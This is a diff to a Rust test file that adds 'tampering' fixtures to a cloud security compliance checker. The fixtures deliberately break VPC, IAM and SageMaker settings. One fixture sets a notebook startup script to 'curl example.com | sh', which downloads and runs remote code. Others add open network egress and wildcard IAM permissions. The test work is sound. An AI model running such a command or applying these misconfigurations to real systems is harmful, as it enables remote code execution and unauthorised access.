@@ -197,10 +197,16 @@ const TAMPERINGS: &[Tampering] = &[
         let anywhere = json!({"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}});
         it.as_array_mut().expect("rules").push(anywhere);
     }),
+    tampering("N3", "Subnet/a", "/routeTable", |it| *it = json!("rtb-mine")),
+    tampering("N3", "RouteTable/private", "/strangers", |it| {
+        *it = json!([{"target": "subnet-mine", "association": "rtbassoc-1"}]);
+    }),
+    tampering("N4", "VpcEndpoint/kms", "/groups", |it| *it = json!(["sg-mine"])),
     tampering("EC2.2", "Vpc/main", "/defaultGroup/egress", |it| {
         *it = json!([{"protocol": "-1", "peer": {"cidr": "0.0.0.0/0"}}]);
     }),
     tampering("EC2.6", "FlowLog/vpc", "/trafficType", |it| *it = json!("REJECT")),
+    tampering("EC2.6", "LogGroup/vpc-flow-logs", "/key", |it| *it = Value::Null),
     tampering("EC2.10", "VpcEndpoint/ec2", "/privateDns", |it| *it = json!(false)),
     tampering("EC2.15", "Subnet/a", "/mapPublicIpOnLaunch", |it| *it = json!(true)),
     tampering("E5", "VpcEndpoint/s3", POLICY, open),
@@ -209,6 +215,9 @@ const TAMPERINGS: &[Tampering] = &[
     tampering("IAM.21", CODE, GUARDRAILS, |it| {
         let all = json!({"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"});
         it["Statement"].as_array_mut().expect("statements").push(all);
+    }),
+    tampering("I3", "Notebook/ana", "/roleArn", |it| {
+        *it = json!("arn:aws:iam::111122223333:role/mine")
     }),
     tampering("I3", "IamRole/admin", "/trust", open),
     tampering("I3", CODE, "/trust", |it| unconditional(it, "Service")),
@@ -245,6 +254,9 @@ const TAMPERINGS: &[Tampering] = &[
         unconditional(it, "Notebook")
     }),
     tampering("I11", "Notebook/ana", "/lifecycleConfig", |it| *it = json!("mine")),
+    tampering("I11", "LifecycleConfig/notebook", "/onStart", |it| {
+        *it = json!("curl example.com | sh")
+    }),
     tampering("SageMaker.5", BOUNDARY, DOCUMENT, |it| unconditional(it, "Model")),
     tampering("I13", BOUNDARY, DOCUMENT, |it| unconditional(it, "Jobs")),
     tampering("I15", BOUNDARY, DOCUMENT, open),
